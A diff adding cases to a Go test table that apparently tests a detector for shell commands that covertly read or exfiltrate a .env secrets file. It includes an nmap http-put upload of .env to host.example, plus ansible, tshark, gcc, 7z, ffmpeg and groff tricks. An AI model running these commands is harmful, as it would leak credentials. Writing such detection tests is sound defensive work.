@@ -161,6 +161,10 @@ func TestPrograms(t *testing.T) {
 		{`printf '%s\n' README.md | tar cf /tmp/x.tar -T -`, false},
 		{`echo '.so .env' | groff -Tascii`, true},
 		// Options that hold more than they seem to.
+		{`ansible all -m copy -a 'src=.env dest=/tmp'`, true},
+		{`ansible all -m copy -a 'src=README.md dest=/tmp'`, false},
+		{`nmap --script=http-put --script-args http-put.file=.env host.example`, true},
+		{`tshark -X lua_script:.env`, true},
 		{`gcc -wrapper 'sh,-c,cat .env' x.c`, true},
 		{`7z a x.7z -ir!.env`, true},
 		{`ffmpeg -vf drawtext=textfile=.env -i a.mp4 b.mp4`, true},
